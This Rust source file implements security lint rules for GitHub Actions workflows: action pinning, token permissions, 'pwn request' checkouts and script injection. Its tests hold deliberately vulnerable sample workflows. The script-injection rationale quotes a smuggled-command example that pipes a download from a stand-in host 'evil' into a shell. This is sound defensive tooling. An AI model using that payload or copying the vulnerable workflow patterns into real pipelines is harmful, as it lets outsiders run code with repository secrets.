//! GitHub Actions workflows: action pinning, token permissions, `pull_request_target`
//! workflows that run pull request code, and script injection from untrusted event fields.

use pave_yaml::PathSegment;
use serde_json::Value;

use crate::doc::{DocKind, Document};
use crate::rule::{DocRule, References, Rule, RuleMeta, Severity, Tier};

type Emit<'e> = &'e mut dyn FnMut(Vec<PathSegment>, String);

fn meta(
    id: &'static str,
    title: &'static str,
    severity: Severity,
    rationale: &'static str,
    remediation: &'static str,
    checkov: &'static [&'static str],
) -> RuleMeta {
    RuleMeta {
        id,
        title,
        severity,
        kind: DocKind::GithubWorkflow,
        tier: Tier::Recommended,
        rationale,
        remediation,
        references: References {
            checkov,
            ..References::default()
        },
    }
}

struct Job<'a> {
    id: &'a str,
    value: &'a Value,
    path: Vec<PathSegment>,
}

impl Job<'_> {
    fn at(&self, keys: &[&str]) -> Vec<PathSegment> {
        let mut p = self.path.clone();
        p.extend(keys.iter().map(|k| PathSegment::Key((*k).to_owned())));
        p
    }
}

struct Step<'a> {
    value: &'a Value,
    path: Vec<PathSegment>,
    /// "job build, step 2 (Checkout)".
    label: String,
}

impl<'a> Step<'a> {
    fn at(&self, keys: &[&str]) -> Vec<PathSegment> {
        let mut p = self.path.clone();
        p.extend(keys.iter().map(|k| PathSegment::Key((*k).to_owned())));
        p
    }

    fn str(&self, keys: &[&str]) -> Option<&'a str> {
        keys.iter()
            .try_fold(self.value, |v, k| v.get(k))
            .and_then(Value::as_str)
    }

    /// `owner/repo` of the action (lower-cased), without path or ref.
    fn action(&self) -> Option<String> {
        let uses = self.str(&["uses"])?;
        let name = uses.split('@').next().unwrap_or(uses);
        let mut parts = name.split('/');
        Some(format!("{}/{}", parts.next()?, parts.next()?).to_ascii_lowercase())
    }
}

fn jobs(doc: &Document) -> Vec<Job<'_>> {
    let Some(Value::Object(jobs)) = doc.value.get("jobs") else {
        return Vec::new();
    };
    jobs.iter()
        .map(|(id, value)| Job {
            id,
            value,
            path: vec!["jobs".into(), id.as_str().into()],
        })
        .collect()
}

fn steps<'a>(job: &Job<'a>) -> Vec<Step<'a>> {
    let Some(Value::Array(steps)) = job.value.get("steps") else {
        return Vec::new();
    };
    steps
        .iter()
        .enumerate()
        .map(|(i, value)| {
            let mut path = job.at(&["steps"]);
            path.push(i.into());
            let label = match value.get("name").and_then(Value::as_str) {
                Some(name) => format!("job {}, step {} ({name})", job.id, i + 1),
                None => format!("job {}, step {}", job.id, i + 1),
            };
            Step { value, path, label }
        })
        .collect()
}

/// The events that trigger the workflow. YAML 1.1 readers turn the `on` key into `true`.
fn triggers(doc: &Document) -> Vec<&str> {
    match doc.value.get("on").or_else(|| doc.value.get("true")) {
        Some(Value::String(s)) => vec![s.as_str()],
        Some(Value::Array(a)) => a.iter().filter_map(Value::as_str).collect(),
        Some(Value::Object(o)) => o.keys().map(String::as_str).collect(),
        _ => Vec::new(),
    }
}

fn is_sha(r: &str) -> bool {
    r.len() == 40 && r.chars().all(|c| c.is_ascii_hexdigit())
}

/// Why a `uses:` value is not pinned, if it is not.
fn unpinned(uses: &str) -> Option<String> {
    let uses = uses.trim();
    if uses.starts_with("./") || uses.starts_with("../") {
        return None;
    }
    if let Some(image) = uses.strip_prefix("docker://") {
        return (!image.contains("@sha256:"))
            .then(|| format!("uses {uses}, an image tag rather than a digest"));
    }
    match uses.rsplit_once('@') {
        Some((_, r)) if is_sha(r) => None,
        Some((_, r)) => Some(format!(
            "uses {uses}: {r} is a tag or branch that can be moved, not a commit SHA"
        )),
        None => Some(format!("uses {uses} without a ref")),
    }
}

fn action_unpinned(doc: &Document, emit: Emit<'_>) {
    for job in jobs(doc) {
        // A reusable workflow call.
        if let Some(uses) = job.value.get("uses").and_then(Value::as_str)
            && let Some(why) = unpinned(uses)
        {
            emit(job.at(&["uses"]), format!("job {} {why}", job.id));
        }
        for step in steps(&job) {
            if let Some(uses) = step.str(&["uses"])
                && let Some(why) = unpinned(uses)
            {
                emit(step.at(&["uses"]), format!("{} {why}", step.label));
            }
        }
    }
}

fn permissions_missing(doc: &Document, emit: Emit<'_>) {
    if doc.value.get("permissions").is_some() {
        return;
    }
    for job in jobs(doc) {
        if job.value.get("permissions").is_none() {
            emit(
                job.path.clone(),
                format!(
                    "job {} sets no permissions and neither does the workflow: its GITHUB_TOKEN gets the repository's default, which may be read-write on everything",
                    job.id
                ),
            );
        }
    }
}

fn permissions_write_all(doc: &Document, emit: Emit<'_>) {
    if doc.value.get("permissions").and_then(Value::as_str) == Some("write-all") {
        emit(
            vec!["permissions".into()],
            "the workflow grants its GITHUB_TOKEN write-all".into(),
        );
    }
    for job in jobs(doc) {
        if job.value.get("permissions").and_then(Value::as_str) == Some("write-all") {
            emit(
                job.at(&["permissions"]),
                format!("job {} grants its GITHUB_TOKEN write-all", job.id),
            );
        }
    }
}

/// Expressions that name the pull request's own code.
const PR_HEAD: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.merge_commit_sha",
    "github.head_ref",
    "refs/pull/",
];
const WORKFLOW_RUN_HEAD: &[&str] = &[
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.id",
];

fn pr_target_checkout(doc: &Document, emit: Emit<'_>) {
    let events = triggers(doc);
    let mut heads: Vec<&str> = Vec::new();
    if events.contains(&"pull_request_target") {
        heads.extend(PR_HEAD);
    }
    if events.contains(&"workflow_run") {
        heads.extend(WORKFLOW_RUN_HEAD);
    }
    if heads.is_empty() {
        return;
    }
    let trigger = if events.contains(&"pull_request_target") {
        "pull_request_target"
    } else {
        "workflow_run"
    };
    let normalise = |s: &str| s.to_ascii_lowercase().replace(char::is_whitespace, "");
    for job in jobs(doc) {
        for step in steps(&job) {
            if step.action().as_deref() == Some("actions/checkout") {
                if let Some(r) = step.str(&["with", "ref"])
                    && heads.iter().any(|h| normalise(r).contains(h))
                {
                    emit(
                        step.at(&["with", "ref"]),
                        format!(
                            "{} checks out untrusted code ({r}) in a {trigger} workflow, which runs with the repository's secrets and a write token",
                            step.label
                        ),
                    );
                }
                if let Some(repo) = step.str(&["with", "repository"])
                    && normalise(repo).contains("github.event.pull_request.head.repo")
                {
                    emit(
                        step.at(&["with", "repository"]),
                        format!(
                            "{} checks out the pull request's fork ({repo}) in a {trigger} workflow",
                            step.label
                        ),
                    );
                }
            }
            if let Some(run) = step.str(&["run"])
                && run.contains("gh pr checkout")
            {
                emit(
                    step.at(&["run"]),
                    format!("{} runs gh pr checkout in a {trigger} workflow", step.label),
                );
            }
        }
    }
}

/// Event fields anyone who can open an issue, comment or pull request controls
/// (GitHub Security Lab's list). `*` matches any one segment (array index or key).
const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

/// The untrusted context references inside `${{ … }}` in `text`, as written.
fn untrusted_expressions(text: &str) -> Vec<&str> {
    let mut found: Vec<&str> = Vec::new();
    let mut rest = text;
    while let Some(open) = rest.find("${{") {
        let body_start = &rest[open + 3..];
        let close = body_start.find("}}").unwrap_or(body_start.len());
        let body = &body_start[..close];
        for reference in context_references(body) {
            let segments = segments(reference);
            let bad = UNTRUSTED.iter().any(|pattern| {
                let pattern: Vec<&str> = pattern.split('.').collect();
                segments.len() >= pattern.len()
                    && pattern
                        .iter()
                        .zip(&segments)
                        .all(|(p, s)| *p == "*" || p == s)
            });
            if bad && !found.contains(&reference) {
                found.push(reference);
            }
        }
        rest = &body_start[(close + 2).min(body_start.len())..];
    }
    found
}

/// `github.…` property chains in an expression: `github.event.commits[0].message`.
fn context_references(expr: &str) -> Vec<&str> {
    let bytes = expr.as_bytes();
    let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'-';
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        // Bytes, not str slices: `i` need not be on a character boundary.
        let starts = bytes
            .get(i..i + 6)
            .is_some_and(|w| w.eq_ignore_ascii_case(b"github"))
            && (i == 0 || !(ident(bytes[i - 1]) || bytes[i - 1] == b'.'));
        if !starts {
            i += 1;
            continue;
        }
        let start = i;
        i += 6;
        loop {
            match bytes.get(i) {
                Some(b'.') => {
                    i += 1;
                    while bytes.get(i).is_some_and(|b| ident(*b) || *b == b'*') {
                        i += 1;
                    }
                }
                Some(b'[') => match expr[i..].find(']') {
                    Some(close) => i += close + 1,
                    None => break,
                },
                _ => break,
            }
        }
        out.push(&expr[start..i]);
    }
    out
}

/// `github.event.commits[0]['message']` → [github, event, commits, *, message].
fn segments(reference: &str) -> Vec<String> {
    let mut out = Vec::new();
    for part in reference.split('.') {
        let mut rest = part;
        if let Some(open) = rest.find('[') {
            out.push(rest[..open].to_ascii_lowercase());
            rest = &rest[open..];
            while let Some(inner) = rest.strip_prefix('[') {
                let close = inner.find(']').unwrap_or(inner.len());
                let key = inner[..close]
                    .trim()
                    .trim_matches(|c| c == '\'' || c == '"');
                out.push(if key == "*" || key.chars().all(|c| c.is_ascii_digit()) {
                    "*".to_owned()
                } else {
                    key.to_ascii_lowercase()
                });
                rest = inner.get(close + 1..).unwrap_or("");
            }
        } else {
            out.push(rest.to_ascii_lowercase());
        }
    }
    out
}

fn script_injection(doc: &Document, emit: Emit<'_>) {
    for job in jobs(doc) {
        for step in steps(&job) {
            let mut scripts: Vec<(&str, Vec<PathSegment>, &str)> = Vec::new();
            if let Some(run) = step.str(&["run"]) {
                scripts.push(("run", step.at(&["run"]), run));
            }
            if step.action().as_deref() == Some("actions/github-script")
                && let Some(script) = step.str(&["with", "script"])
            {
                scripts.push(("script", step.at(&["with", "script"]), script));
            }
            for (what, path, text) in scripts {
                for expr in untrusted_expressions(text) {
                    emit(
                        path.clone(),
                        format!(
                            "{}: {what} expands ${{{{ {expr} }}}}, which an outsider controls, into the code before it runs",
                            step.label
                        ),
                    );
                }
            }
        }
    }
}

pub(crate) fn rules() -> Vec<Box<dyn Rule>> {
    let rules = vec![
        DocRule {
            meta: meta(
                "gha-action-unpinned",
                "Action not pinned to a commit SHA",
                Severity::Medium,
                "Tags and branches of an action can be moved to new code at any time (as in the \
                 tj-actions/changed-files compromise of 2025); the workflow then runs it with its \
                 secrets and token.",
                "Pin `uses:` to the full 40-character commit SHA, with the version in a comment \
                 (`actions/checkout@<sha> # v4.2.2`), and let Dependabot or Renovate update it; \
                 pin `docker://` images by digest.",
                &[],
            ),
            check: |_, doc, emit| action_unpinned(doc, emit),
        },
        DocRule {
            meta: meta(
                "gha-permissions-missing",
                "Workflow token permissions not set",
                // The default depends on repository and organisation settings pave cannot see:
                // read-only for repositories created since February 2023, read-write before.
                Severity::Medium,
                "Without a `permissions` block the GITHUB_TOKEN gets the repository's default, \
                 read-write on contents, packages, pull requests and more in older repositories \
                 and organisations; any compromised step can push code or publish releases.",
                "Set `permissions: contents: read` (or `{}`) at the top of the workflow and grant \
                 more per job only where needed.",
                &[],
            ),
            check: |_, doc, emit| permissions_missing(doc, emit),
        },
        DocRule {
            meta: meta(
                "gha-permissions-write-all",
                "Workflow token has write-all permissions",
                Severity::High,
                "`write-all` lets every step push code, change releases, packages, issues and \
                 workflow runs with the GITHUB_TOKEN.",
                "List only the scopes the job needs, e.g. `permissions: {contents: read, \
                 pull-requests: write}`.",
                &["CKV2_GHA_1"],
            ),
            check: |_, doc, emit| permissions_write_all(doc, emit),
        },
        DocRule {
            meta: meta(
                "gha-pr-target-checkout",
                "pull_request_target workflow runs the pull request's code",
                Severity::Critical,
                "pull_request_target (and workflow_run) workflows run in the base repository with \
                 its secrets and a write token; checking out the pull request's head and building \
                 or running it hands both to whoever opened the pull request (a \"pwn request\").",
                "Use the `pull_request` event for building untrusted code; if a privileged step is \
                 needed, split it into a workflow_run workflow that only consumes artifacts and \
                 never executes them.",
                &[],
            ),
            check: |_, doc, emit| pr_target_checkout(doc, emit),
        },
        DocRule {
            meta: meta(
                "gha-script-injection",
                "Untrusted input expanded into a script",
                Severity::High,
                "`${{ }}` expressions are substituted into `run` scripts before the shell parses \
                 them: an issue title or branch name like `a\"; curl evil | sh; \"` runs as code \
                 with the job's secrets and token.",
                "Pass the value through an environment variable (`env: TITLE: ${{ \
                 github.event.issue.title }}`) and use it quoted in the script (`\"$TITLE\"`); in \
                 actions/github-script, read it from `context` instead.",
                &["CKV_GHA_2"],
            ),
            check: |_, doc, emit| script_injection(doc, emit),
        },
    ];
    rules
        .into_iter()
        .map(|r| Box::new(r) as Box<dyn Rule>)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Exceptions, Finding, Policy, PolicyConfig};

    const SHA: &str = "11bd71901bbe5b1630ceea73d27597364c9af683";

    fn check(text: &str) -> Vec<Finding> {
        let docs = crate::doc::load(
            ".github/workflows/ci.yml",
            text.to_owned(),
            None,
            &pave_yaml::Limits::default(),
        )
        .unwrap();
        assert_eq!(docs[0].kind, DocKind::GithubWorkflow);
        Policy::with_rules(rules(), PolicyConfig::default(), Exceptions::default())
            .check(&docs, vec![], 0)
            .findings
    }

    fn of(text: &str, rule: &str) -> Vec<(u32, u32)> {
        check(text)
            .into_iter()
            .filter(|f| f.rule == rule)
            .map(|f| (f.line.unwrap(), f.column.unwrap()))
            .collect()
    }

    #[test]
    fn good_workflow_has_no_findings() {
        let text = format!(
            "\
name: CI
on:
  pull_request:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{SHA} # v4.2.2
      - uses: ./.github/actions/setup
      - uses: docker://alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
      - name: Greet
        env:
          TITLE: ${{{{ github.event.pull_request.title }}}}
        run: echo \"$TITLE\" ${{{{ github.event.pull_request.head.sha }}}}
  release:
    uses: ./.github/workflows/release.yml
"
        );
        let f = check(&text);
        assert!(
            f.is_empty(),
            "{:?}",
            f.iter().map(|f| &f.message).collect::<Vec<_>>()
        );
    }

    #[test]
    fn unpinned_actions() {
        let text = format!(
            "\
on: push
permissions: {{}}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-go@{SHA}
      - uses: docker://ghcr.io/org/tool:1.2
      - uses: org/repo/path@main
      - uses: actions/cache@abc1234
  call:
    uses: org/workflows/.github/workflows/deploy.yml@v1
"
        );
        assert_eq!(
            of(&text, "gha-action-unpinned"),
            vec![(7, 9), (9, 9), (10, 9), (11, 9), (13, 5)]
        );
        let messages: Vec<String> = check(&text).into_iter().map(|f| f.message).collect();
        assert_eq!(
            messages[0],
            "job build, step 1 uses actions/checkout@v4: v4 is a tag or branch that can be moved, not a commit SHA"
        );
    }

    #[test]
    fn permissions() {
        let missing = "on: push\njobs:\n  a:\n    runs-on: x\n    steps: []\n  b:\n    permissions: read-all\n    runs-on: x\n";
        assert_eq!(of(missing, "gha-permissions-missing"), vec![(3, 3)]);
        assert!(
            of(
                "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n",
                "gha-permissions-missing"
            )
            .is_empty()
        );
        let write_all = "on: push\npermissions: write-all\njobs:\n  a:\n    permissions: write-all\n    runs-on: x\n  b:\n    permissions:\n      contents: write\n    runs-on: x\n";
        assert_eq!(
            of(write_all, "gha-permissions-write-all"),
            vec![(2, 1), (5, 5)]
        );
        assert!(of(write_all, "gha-permissions-missing").is_empty());
    }

    #[test]
    fn pull_request_target_checkout() {
        let text = format!(
            "\
on:
  pull_request_target:
    types: [opened]
permissions:
  contents: read
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{SHA}
      - uses: actions/checkout@{SHA}
        with:
          ref: ${{{{ github.event.pull_request.head.sha }}}}
      - uses: actions/checkout@{SHA}
        with:
          ref: refs/pull/${{{{ github.event.number }}}}/merge
      - uses: actions/checkout@{SHA}
        with:
          repository: ${{{{ github.event.pull_request.head.repo.full_name }}}}
          ref: ${{{{ github.HEAD_REF }}}}
      - run: gh pr checkout ${{{{ github.event.number }}}}
"
        );
        assert_eq!(
            of(&text, "gha-pr-target-checkout"),
            vec![(13, 11), (16, 11), (19, 11), (20, 11), (21, 9)]
        );
        // The same steps on `pull_request` are fine.
        let safe = text.replace("pull_request_target", "pull_request");
        assert!(of(&safe, "gha-pr-target-checkout").is_empty());
        // YAML 1.1 readers turn `on` into `true`.
        let v11 = text.replacen("on:", "\"true\":", 1);
        assert_eq!(of(&v11, "gha-pr-target-checkout").len(), 5);
    }

    #[test]
    fn script_injection() {
        let text = format!(
            "\
on: [issues, issue_comment]
permissions: {{}}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: Echo
        run: |
          echo \"${{{{ github.event.issue.title }}}}\"
          echo \"${{{{ github.event.issue.number }}}} ${{{{github.event.comment.body}}}}\"
          echo \"${{{{ github.event.issue.title }}}}\"
      - run: echo ${{{{ toJSON(github.event.commits[0].message) }}}} ${{{{ github.event.pull_request.head.sha }}}}
      - uses: actions/github-script@{SHA}
        with:
          script: |
            console.log(\"${{{{ github.head_ref }}}}\")
      - uses: some/action@{SHA}
        with:
          text: ${{{{ github.event.issue.body }}}}
"
        );
        let f: Vec<(u32, String)> = check(&text)
            .into_iter()
            .filter(|f| f.rule == "gha-script-injection")
            .map(|f| (f.line.unwrap(), f.message))
            .collect();
        let lines: Vec<u32> = f.iter().map(|(l, _)| *l).collect();
        assert_eq!(lines, vec![8, 8, 12, 15]);
        // Findings at one position are ordered by message.
        assert_eq!(
            f[1].1,
            "job triage, step 1 (Echo): run expands ${{ github.event.issue.title }}, which an outsider controls, into the code before it runs"
        );
        assert!(f[0].1.contains("github.event.comment.body"));
        assert!(f[2].1.contains("github.event.commits[0].message"));
        assert!(f[3].1.contains("script expands ${{ github.head_ref }}"));
    }

    #[test]
    fn references_and_segments() {
        assert_eq!(
            context_references(
                "format('{0}', github.event.issue.title) || mygithub.x || github['event']"
            ),
            vec!["github.event.issue.title", "github['event']"]
        );
        assert_eq!(
            context_references("format('héllo → {0}', github.head_ref)"),
            vec!["github.head_ref"]
        );
        assert_eq!(
            segments("github.event.pages[3]['page_name']"),
            vec!["github", "event", "pages", "*", "page_name"]
        );
        assert_eq!(
            untrusted_expressions(
                "${{ github.event.pages.*.page_name }} ${{ github.event.issue.id }}"
            ),
            vec!["github.event.pages.*.page_name"]
        );
        assert_eq!(unpinned("./local"), None);
        assert!(unpinned("docker://alpine:3").is_some());
    }

    #[test]
    fn odd_shapes_do_not_panic() {
        for text in [
            "on: 5\njobs: []\n",
            "on: [pull_request_target]\njobs:\n  a: x\n  b:\n    steps: x\n  c:\n    uses: 5\n    steps: [null, 1, {uses: 5, with: 3, run: [1]}, {uses: actions/checkout, with: {ref: 5}}]\n",
            "\"true\": {workflow_run: {}}\njobs:\n  a:\n    steps:\n      - run: \"${{ github\"\n      - run: \"${{ github.event.issue.title[\"\n      - run: \"é${{ émoji.github }} ${{github}}\"\n",
        ] {
            let _ = check(text);
        }
    }
}
